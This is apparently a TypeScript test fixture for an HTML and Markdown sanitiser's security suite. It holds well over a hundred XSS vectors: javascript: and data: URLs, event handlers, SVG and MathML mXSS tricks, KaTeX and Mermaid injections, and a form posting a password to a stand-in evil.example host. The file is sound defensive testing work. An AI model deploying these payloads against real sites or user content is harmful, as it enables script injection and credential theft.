// The vectors of the security suite: DOMPurify's own fixtures and the html5sec (H5SC) set (data in
// ./fixtures, provenance in ./fixtures/README.md), plus our own HTML and Markdown vectors.
// Every `alert`/`prompt`/`confirm` in a vector is rewritten to call the tripwire (armPayload).
import dompurifyFixtures from './fixtures/dompurify-expect.json';
import html5secVectors from './fixtures/html5sec.json';
import { armPayload } from './harness';

export interface Vector {
  /** Short unique name, printed with every offence. */
  name: string;
  /** The hostile text (HTML, or Markdown for Markdown vectors), payloads already armed. */
  text: string;
}

const short = (text: string, length = 48) => (text.length > length ? `${text.slice(0, length)}…` : text);

/** DOMPurify's test/fixtures/expect.mjs payloads (its expected outputs are not used: our profile differs). */
export const DOMPURIFY_VECTORS: readonly Vector[] = (dompurifyFixtures as { title?: string; payload: string }[]).map(
  (fixture, index) => ({
    name: `dompurify#${index + 1}${fixture.title ? ` ${short(fixture.title)}` : ''}`,
    text: armPayload(fixture.payload),
  }),
);

/** The html5sec.org vectors, by their H5SC id. */
export const HTML5SEC_VECTORS: readonly Vector[] = (html5secVectors as { id: number; vector: string }[]).map(
  ({ id, vector }) => ({ name: `html5sec#${id}`, text: armPayload(vector) }),
);

const own = (entries: Record<string, string>, prefix: string): Vector[] =>
  Object.entries(entries).map(([name, text]) => ({ name: `${prefix}:${name}`, text: armPayload(text) }));

/** A 1x1 PNG: the one kind of `data:` URL allowed (in `<img src>`). */
export const PIXEL_PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const SCRIPT_BASE64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>
const SVG_ONLOAD_BASE64 = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='; // <svg ... onload="alert(1)"/>

/** Our own raw-HTML vectors: the spec's rules (section 5) one by one, and the tricks the issue names. */
export const OWN_HTML_VECTORS: readonly Vector[] = own(
  {
    // javascript: and data: URLs in links
    'a javascript:': '<a href="javascript:alert(1)">x</a>',
    'a JaVaScRiPt:': '<a href="JaVaScRiPt:alert(1)">x</a>',
    'a java&#x09;script:': '<a href="java&#x09;script:alert(1)">x</a>',
    'a java&#x0A;script:': '<a href="java&#x0A;script:alert(1)">x</a>',
    'a &#106;avascript:': '<a href="&#106;avascript:alert(1)">x</a>',
    'a javascript&colon;': '<a href="javascript&colon;alert(1)">x</a>',
    'a leading controls': '<a href="&#x01;&#x20;javascript:alert(1)">x</a>',
    'a vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
    'a data:text/html': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'a data base64': `<a href="data:text/html;base64,${SCRIPT_BASE64}">x</a>`,
    'a file:': '<a href="file:///etc/passwd">x</a>',
    'a blob:': '<a href="blob:https://evil.example/uuid">x</a>',
    'a tel: (not allowed)': '<a href="tel:+1000">x</a>',
    'area javascript:': '<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:alert(1)"></map>',
    'svg a xlink:href javascript:': '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    'svg a href javascript:': '<svg><a href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    'math href javascript:': '<math href="javascript:alert(1)"><mi>x</mi></math>',
    'maction xlink:href':
      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
    // images and media
    'img javascript:': '<img src="javascript:alert(1)">',
    'img onerror': '<img src="x:x" onerror="alert(1)">',
    'img data:svg onload': `<img src="data:image/svg+xml;base64,${SVG_ONLOAD_BASE64}">`,
    'img data:svg utf8':
      '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
    'img data:text/html': `<img src="data:text/html;base64,${SCRIPT_BASE64}">`,
    'img data:png (allowed)': `<img src="${PIXEL_PNG}" alt="pixel">`,
    'img srcset javascript:': '<img srcset="javascript:alert(1) 1x, x.png 2x">',
    'picture source srcset data:': `<picture><source srcset="data:text/html;base64,${SCRIPT_BASE64}"><img src="x.png"></picture>`,
    'video poster javascript:': '<video poster="javascript:alert(1)"></video>',
    'video src data:': `<video src="data:text/html;base64,${SCRIPT_BASE64}"></video>`,
    'audio src javascript:': '<audio src="javascript:alert(1)"></audio>',
    'source onerror': '<video><source src="x" onerror="alert(1)"></video>',
    'input type=image': '<input type="image" src="javascript:alert(1)">',
    'object data': `<object data="data:text/html;base64,${SCRIPT_BASE64}"></object>`,
    'embed src': '<embed src="javascript:alert(1)">',
    'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    'iframe javascript:': '<iframe src="javascript:alert(1)"></iframe>',
    'base href': '<base href="javascript:alert(1)//"><a href="/x">x</a>',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    'link import': '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    'link prefetch': '<link rel="prefetch" href="https://evil.example/">',
    // SVG tricks
    'svg onload': '<svg onload="alert(1)"></svg>',
    'svg script': '<svg><script>alert(1)</script></svg>',
    'svg script href': '<svg><script href="data:,alert(1)"></script></svg>',
    'svg animate href':
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>',
    'svg set onmouseover': '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    'svg animate begin': '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    'svg foreignObject': '<svg><foreignObject><img src="x:x" onerror="alert(1)"></foreignObject></svg>',
    'svg image href': '<svg><image href="javascript:alert(1)"/></svg>',
    'svg style import': '<svg><style>@import "https://evil.example/x.css";</style></svg>',
    'svg feImage': '<svg><filter id="f"><feImage href="javascript:alert(1)"/></filter></svg>',
    'svg title mXSS': '<svg><title><style></title><img src="x:x" onerror="alert(1)"></style></title></svg>',
    'svg desc mXSS': '<svg></p><desc><style></desc><img src="x:x" onerror="alert(1)"></style></desc></svg>',
    // <use> pointing elsewhere
    'use data: svg': `<svg><use href="data:image/svg+xml;base64,${SVG_ONLOAD_BASE64}#x"/></svg>`,
    'use xlink data:': `<svg><use xlink:href="data:image/svg+xml;base64,${SVG_ONLOAD_BASE64}#x"/></svg>`,
    'use external host': '<svg><use href="https://evil.example/icons.svg#x"/></svg>',
    'use protocol-relative': '<svg><use xlink:href="//evil.example/icons.svg#x"/></svg>',
    'use other file': '<svg><use href="/uploads/evil.svg#x"/></svg>',
    'use javascript:': '<svg><use href="javascript:alert(1)"/></svg>',
    'use path traversal': '<svg><use href="/assets/icons.svg/../../uploads/evil.svg#x"/></svg>',
    'use sprite (allowed)': '<svg><use href="/assets/icons.svg#check"/></svg>',
    'use fragment (allowed)': '<svg><defs><circle id="dot" r="2"/></defs><use href="#dot"/></svg>',
    // MathML tricks
    'math mglyph style': '<math><mtext><table><mglyph><style><img src="x:x" onerror="alert(1)">',
    'math annotation-xml':
      '<math><annotation-xml encoding="text/html"><img src="x:x" onerror="alert(1)"></annotation-xml></math>',
    'math mstyle': '<math><mstyle mathcolor="red"><mi>x</mi></mstyle></math>',
    'math mi xlink:href': '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    'math style in mtext': '<math><mtext><style><img src="x:x" onerror="alert(1)"></style></mtext></math>',
    // mXSS round trips
    'noscript title': '<noscript><p title="</noscript><img src=x:x onerror=alert(1)>"></p></noscript>',
    'comment breakout': '<!--><img src="x:x" onerror="alert(1)">-->',
    'cdata breakout': '<![CDATA[><img src="x:x" onerror="alert(1)">]]>',
    'xmp title': '<xmp><p title="</xmp><img src=x:x onerror=alert(1)>">',
    'template in select': '<select><template><style><img src="x:x" onerror="alert(1)"></style></template></select>',
    'textarea title': '<textarea><p title="</textarea><img src=x:x onerror=alert(1)>"></textarea>',
    'table style': '<table><tr><td><svg><style><img src="x:x" onerror="alert(1)"></style></svg></td></tr></table>',
    'form nesting': '<form><math><mtext></form><form><mglyph><style></math><img src="x:x" onerror="alert(1)">',
    'entity in attribute': '<p title="&lt;img src=x:x onerror=alert(1)&gt;">x</p>',
    'backtick attribute': '<img src="x` `<script>alert(1)</script>"` `>',
    'nul in tag': '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src="x:x" on\u0000error="alert(1)">',
    // forms
    'form action': '<form action="javascript:alert(1)"><button>go</button></form>',
    'form external':
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>go</button></form>',
    'button formaction': '<button formaction="javascript:alert(1)">go</button>',
    'input formaction': '<input type="submit" formaction="javascript:alert(1)">',
    'button form=': '<form id="f1"></form><button form="f1" formaction="javascript:alert(1)">go</button>',
    isindex: '<isindex action="javascript:alert(1)" type="image">',
    // event handlers, gl-emoji included
    'gl-emoji onmouseover': '<gl-emoji onmouseover="alert(1)" data-name="smile">x</gl-emoji>',
    'gl-emoji onclick nested': '<gl-emoji data-name="smile"><img src="x:x" onerror="alert(1)"></gl-emoji>',
    'gl-emoji fallback javascript:':
      '<gl-emoji data-name="sec_custom_1" data-unicode-version="custom" data-fallback-src="javascript:alert(1)">x</gl-emoji>',
    'gl-emoji fallback data:svg': `<gl-emoji data-name="sec_custom_2" data-unicode-version="custom" data-fallback-src="data:image/svg+xml;base64,${SVG_ONLOAD_BASE64}">x</gl-emoji>`,
    'gl-emoji undrawable fallback':
      '<gl-emoji data-name="sec_undrawable" data-fallback-src="javascript:alert(1)"></gl-emoji>',
    'copy-code onclick': '<copy-code onclick="alert(1)">x</copy-code>',
    'details ontoggle': '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
    'body onload': '<body onload="alert(1)">',
    'div onclick': '<div onclick="alert(1)">x</div>',
    'input autofocus onfocus': '<input autofocus onfocus="alert(1)">',
    'marquee onstart': '<marquee onstart="alert(1)">x</marquee>',
    'animation handler': '<p style="animation:x 1s" onanimationstart="alert(1)">x</p>',
    'uppercase handler': '<IMG SRC="x:x" ONERROR="alert(1)">',
    'handler with slash': '<img/src="x:x"/onerror="alert(1)">',
    script: '<script>alert(1)</script>',
    'script src data:': '<script src="data:,alert(1)"></script>',
    style: '<style>*{background:url("javascript:alert(1)")}</style>',
    // forbidden data attributes and actions
    'rails data attributes':
      '<a href="/x" data-remote="true" data-method="delete" data-url="/y" data-type="json" data-disable-with="…" data-disabled="1" data-disable="1" data-turbo="false">x</a>',
    'rails data on button': '<button data-method="post" data-url="/admin" data-remote="true">x</button>',
    // new tabs
    'target _blank external': '<a href="https://evil.example/" target="_blank">x</a>',
    'target _blank rel opener': '<a href="https://evil.example/" target="_blank" rel="opener">x</a>',
    'area target _blank external':
      '<map name="m2"><area shape="rect" coords="0,0,9,9" href="https://evil.example/" target="_blank"></map>',
    'target named external': '<a href="https://evil.example/" target="evil">x</a>',
    'target _blank same host': '<a href="/local" target="_blank">x</a>',
    // clobbering
    'clobber id location': '<a id="location" href="#x">x</a>',
    'clobber name getElementById': '<img name="getElementById" src="x.png">',
    'clobber id cookie': '<p id="cookie">x</p>',
    'clobber form attributes': '<form><input name="attributes"><input name="attributes"></form>',
  },
  'own',
);

/** Every raw-HTML vector: DOMPurify's, html5sec's and ours. */
export const HTML_VECTORS: readonly Vector[] = [...DOMPURIFY_VECTORS, ...HTML5SEC_VECTORS, ...OWN_HTML_VECTORS];

const fence = (language: string, body: string) => `\`\`\`${language}\n${body}\n\`\`\``;

/**
 * Markdown-specific vectors: links and images, autolinks, reference links, raw HTML in tables,
 * footnotes and headings, emoji, math (KaTeX input is attacker-controlled), Mermaid (so is its
 * source), JSON tables and code blocks (the highlighter), task lists, front matter.
 */
export const MARKDOWN_VECTORS: readonly Vector[] = own(
  {
    // code blocks first: the highlighter only takes blocks near the viewport
    'code html': fence('html', '<img src="x:x" onerror="alert(1)"><script>alert(1)</script>'),
    'code js breakout': fence('javascript', 'alert(1)</code></pre><img src="x:x" onerror="alert(1)">'),
    'code xml': fence('xml', '<!-- --><svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>'),
    'code markdown': fence('markdown', '[x](javascript:alert(1)) <img src=x:x onerror=alert(1)>'),
    'code hostile language': fence('"><img src=x:x onerror=alert(1)>', 'x'),
    'code language attr': fence('js" onmouseover="alert(1)', 'x'),
    'code params': fence('json:table" onmouseover="alert(1)', '{}'),
    'front matter': '---\n<img src="x:x" onerror="alert(1)">\n---\n\ntext',
    // links
    'link javascript:': '[x](javascript:alert(1))',
    'link JAVASCRIPT:': '[x](JAVASCRIPT:alert(1))',
    'link entity colon': '[x](javascript&#58;alert(1))',
    'link entity j': '[x](&#x6A;avascript:alert(1))',
    'link all entities': '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
    'link angle javascript:': '[x](<javascript:alert(1)>)',
    'link percent newline': '[x](java%0ascript:alert(1))',
    'link vbscript:': '[x](vbscript:msgbox(1))',
    'link data:': '[x](data:text/html,<script>alert(1)</script>)',
    'link title breakout': '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    'link text html': '[<img src=x:x onerror=alert(1)>](https://ok.example)',
    'image javascript:': '![x](javascript:alert(1))',
    'image data:text/html': '![x](data:text/html,<script>alert(1)</script>)',
    'image data:svg': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    'image data:png (allowed)': `![x](${PIXEL_PNG})`,
    'image alt breakout': '![x" onerror="alert(1)](x.png)',
    'image title breakout': '![x](x.png "t\\" onerror=\\"alert(1)")',
    'reference javascript:': '[x][r]\n\n[r]: javascript:alert(1)',
    'reference angle': '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
    'reference image data:': '![x][r]\n\n[r]: data:text/html,<script>alert(1)</script>',
    // autolinks
    'autolink javascript:': '<javascript:alert(1)>',
    'autolink data:': '<data:text/html,<script>alert(1)</script>>',
    'autolink breakout': '<https://ok.example/"onmouseover="alert(1)>',
    'autolink mailto breakout': '<mailto:a@ok.example?subject="><img src=x:x onerror=alert(1)>>',
    'linkify breakout': 'https://ok.example/"onmouseover="alert(1)',
    'linkify www html': 'www.ok.example/<img src=x:x onerror=alert(1)>',
    'linkify javascript': 'javascript:alert(1)',
    // raw HTML in Markdown structures
    'html inline link': 'a <a href="javascript:alert(1)">x</a> b',
    'html block with markdown': '<div>\n\n[x](javascript:alert(1))\n\n</div>',
    'html in table': '| a | b |\n|---|---|\n| <img src=x:x onerror=alert(1)> | [x](javascript:alert(1)) |',
    'html in footnote': 'x[^1]\n\n[^1]: <img src=x:x onerror=alert(1)> [x](javascript:alert(1))',
    'footnote label html': 'x[^<img src=x:x onerror=alert(1)>]\n\n[^<img src=x:x onerror=alert(1)>]: y',
    'footnote label quote': 'x[^a" onmouseover="alert(1)]\n\n[^a" onmouseover="alert(1)]: y',
    'html in heading': '# <img src=x:x onerror=alert(1)> heading',
    'heading clobber': '# location\n\n## cookie\n\n### getElementById',
    'heading quote': '# a" onmouseover="alert(1)',
    'html in list': '- <img src=x:x onerror=alert(1)>\n- [x](javascript:alert(1))',
    'task list html': '- [ ] <img src=x:x onerror=alert(1)>\n- [x] [x](javascript:alert(1))',
    'details ontoggle':
      '<details open ontoggle="alert(1)"><summary>s</summary>\n\n[x](javascript:alert(1))\n\n</details>',
    'html comment': '<!-- <img src=x:x onerror=alert(1)> -->x',
    'blockquote html': '> <svg onload=alert(1)>\n> <math><mtext><table><mglyph><style><img src=x:x onerror=alert(1)>',
    'gl-emoji raw': '<gl-emoji onmouseover="alert(1)" data-name="smile">:smile:</gl-emoji>',
    'emoji shortcodes': ':smile: :x_x: :sec_hostile: :+1:',
    'emoji in link': '[:sec_hostile:](javascript:alert(1))',
    references:
      '#1 !2 &3 %"<img src=x:x onerror=alert(1)>" ~"<svg onload=alert(1)>" @user @sec_hostile group/project#4 a1b2c3d4',
    // the tag filter and what the sanitiser keeps of raw tags left open
    'tag filter xmp': 'a <xmp> b <img src=x:x onerror=alert(1)>\n\nlater <img src=x:x onerror=alert(1)>',
    'tag filter script block': '<script>alert(1)</script>\n\n<SCRIPT>alert(1)</SCRIPT>',
    'tag filter plaintext': '<plaintext><img src=x:x onerror=alert(1)>',
    'tag filter noscript': '<noscript><p title="</noscript><img src=x:x onerror=alert(1)>">',
    'tag filter template': '<template><img src=x:x onerror=alert(1)></template>',
    'tag filter textarea': '<textarea></textarea><img src=x:x onerror=alert(1)>',
    'unknown element content': '<path><img src=x:x onerror=alert(1)></path> <foreignObject><svg onload=alert(1)>',
    'hidden content moved out': '<video><img src=x:x onerror=alert(1)></video> <select><img src=x:x onerror=alert(1)>',
    'dialog content moved out': '<dialog><img src=x:x onerror=alert(1)></dialog> <rp><svg onload=alert(1)></rp>',
    // GitLab additions
    'toc heading html': '[[_TOC_]]\n\n# <img src=x:x onerror=alert(1)> "><svg onload=alert(1)>',
    'alert title html': '> [!note] <img src=x:x onerror=alert(1)> [x](javascript:alert(1))\n> body',
    'inline diff html': '{+ <img src=x:x onerror=alert(1)> +} [- [x](javascript:alert(1)) -]',
    'multi-line quote html': '>>>\n<img src=x:x onerror=alert(1)>\n>>>',
    'video javascript:': '![x](javascript:alert(1).mp4) ![y](x.mp4 "\\" onerror=\\"alert(1)")',
    'video data:': '![x](data:video/mp4;base64,AAAA.mp4) ![y](data:text/html,<script>alert(1)</script>.mp3)',
    'image size breakout': '![x](y.png){width=1" onerror="alert(1)} ![x](y.png){height=1 onerror=alert(1)}',
    'colour chip breakout': '`#F00;background:url(javascript:alert(1))` `rgb(1,2,3)" onmouseover="alert(1)`',
    'wiki link javascript:': '[[javascript:alert(1)]] [[x|javascript:alert(1)]] [[" onmouseover="alert(1)]]',
    'relative link breakout': '[x](../"onmouseover="alert(1)) ![y](/uploads/"><img src=x:x onerror=alert(1)>.png)',
    'code params html': fence('ruby startline="><img src=x:x onerror=alert(1)>', 'x'),
    'snippets and labels': '$1 group/project$2 ~bug ~"a::b" ~"<img src=x:x onerror=alert(1)>"',
    // math: KaTeX input is attacker-controlled
    'math href javascript:': '$\\href{javascript:alert(1)}{x}$',
    'math href JaVaScRiPt:': '$\\href{JaVaScRiPt:alert(1)}{x}$',
    'math href entity colon': '$\\href{javascript&colon;alert(1)}{x}$',
    'math href leading space': '$\\href{ javascript:alert(1)}{x}$',
    'math href data:': '$\\href{data:text/html,<script>alert(1)</script>}{x}$',
    'math href vbscript:': '$\\href{vbscript:msgbox(1)}{x}$',
    'math url javascript:': '$$\\url{javascript:alert(1)}$$',
    'math fence href': fence('math', '\\href{javascript:alert(1)}{x}'),
    'math array href': '$$\\begin{array}{c}\\href{javascript:alert(1)}{x}\\end{array}$$',
    'math htmlData': '$\\htmlData{foo=bar, onclick=alert(1)}{x}$',
    'math htmlClass': '$\\htmlClass{x" onclick="alert(1)}{y}$',
    'math htmlId clobber': '$\\htmlId{location}{y}$',
    'math htmlStyle': '$\\htmlStyle{background:url(javascript:alert(1))}{y}$',
    'math includegraphics': '$\\includegraphics[height=1em]{javascript:alert(1)}$',
    'math includegraphics external': '$\\includegraphics[height=1em]{https://evil.example/x.png}$',
    'math text html': '$\\text{<img src=x:x onerror=alert(1)>}$',
    'math verb html': '$\\verb|<script>alert(1)</script>|$',
    'math color breakout': '$\\color{red" onmouseover="alert(1)}{x}$',
    'math operatorname html': '$\\operatorname{<svg/onload=alert(1)>}$',
    'math code breakout': '$x</code><img src=x:x onerror=alert(1)>$',
    'math color': '$\\color{red}{x} \\displaystyle y$',
    'math expansion bomb': '$\\def\\a{\\a\\a}\\a$',
    'math huge rule': '$\\rule{1000em}{1000em}$',
    'math href https (allowed)': '$\\href{https://ok.example}{ok}$',
    'math href relative (allowed)': '$\\href{#frag}{ok}$',
    // Mermaid: the source is attacker-controlled
    'mermaid img label': fence('mermaid', 'graph TD\n  A["<img src=x:x onerror=alert(1)>"] --> B'),
    'mermaid loose click call': fence(
      'mermaid',
      '%%{init: {"securityLevel": "loose", "startOnLoad": true}}%%\ngraph TD\n  A --> B\n  click A call alert(1)',
    ),
    'mermaid click href': fence(
      'mermaid',
      'graph TD\n  A --> B\n  click A href "javascript:alert(1)"\n  click B "javascript:alert(1)"',
    ),
    'mermaid html link label': fence('mermaid', 'flowchart LR\n  A[<a href="javascript:alert(1)">x</a>] --> B'),
    'mermaid sequence': fence('mermaid', 'sequenceDiagram\n  A->>B: <img src=x:x onerror=alert(1)>'),
    'mermaid themeCSS': fence(
      'mermaid',
      '%%{init: {"themeCSS": "svg{background:url(javascript:alert(1))}"}}%%\ngraph TD\n  A --> B',
    ),
    'mermaid dompurifyConfig': fence(
      'mermaid',
      '%%{init: {"htmlLabels": true, "dompurifyConfig": {"ADD_TAGS": ["script"], "ADD_ATTR": ["onerror"]}}}%%\ngraph TD\n  A["<img src=x:x onerror=alert(1)>"] --> B',
    ),
    'mermaid class diagram': fence('mermaid', 'classDiagram\n  class A{\n    <img src=x:x onerror=alert(1)>\n  }'),
    'mermaid markdown string': fence('mermaid', 'graph TD\n  A["`**b** <img src=x:x onerror=alert(1)>`"] --> B'),
    'mermaid style url': fence('mermaid', 'graph TD\n  A --> B\n  style A fill:url(javascript:alert(1))'),
    'mermaid fence breakout': fence('mermaid', '</code></pre><img src=x:x onerror=alert(1)>'),
    // JSON tables
    'json table html cells': fence(
      'json:table',
      '{"fields":[{"key":"a","label":"<img src=x:x onerror=alert(1)>","sortable":true}],"items":[{"a":"<img src=x:x onerror=alert(1)>"},{"a":"javascript:alert(1)"}],"caption":"<script>alert(1)</script>","filter":true}',
    ),
    'json table markdown cells': fence(
      'json:table',
      '{"markdown":true,"items":[{"a":"[x](javascript:alert(1))","b":"<img src=x:x onerror=alert(1)>"}]}',
    ),
    'json table keys': fence('json:table', '{"items":[{"<img src=x:x onerror=alert(1)>":1,"__proto__":{"x":1}}]}'),
    'json table invalid': fence('json:table', '{"items": [<img src=x:x onerror=alert(1)>'),
    'json table attribute breakout': fence('json:table', '{"items":[{"a":"\\" onmouseover=\\"alert(1)"}]}'),
  },
  'md',
);

/** The Markdown structures raw HTML is placed in: each changes the parser's context around it. */
export type MarkdownStructure = 'table' | 'footnote' | 'heading' | 'list';

/** A raw-HTML vector inside Markdown structures (a table cell, a footnote, a heading with its anchor, a list item). */
export function inMarkdownStructures(
  vector: Vector,
  structures: readonly MarkdownStructure[] = ['table', 'footnote', 'heading', 'list'],
): Vector[] {
  const line = vector.text.replace(/\r?\n/g, ' ');
  const texts: Record<MarkdownStructure, string> = {
    table: `| a |\n|---|\n| ${line.replace(/\|/g, '\\|')} |`,
    footnote: `x[^1]\n\n[^1]: ${line}`,
    heading: `## ${line}`,
    list: `- ${line}`,
  };
  return structures.map((structure) => ({ name: `${vector.name} [${structure}]`, text: texts[structure] }));
}

/** Hostile Mermaid sources, for the sandbox page's renderer run in this page (defence in depth). */
export const MERMAID_SOURCES: readonly Vector[] = MARKDOWN_VECTORS.filter((vector) =>
  vector.name.startsWith('md:mermaid'),
).map((vector) => ({ name: vector.name, text: vector.text.replace(/^```mermaid\n/, '').replace(/\n```$/, '') }));
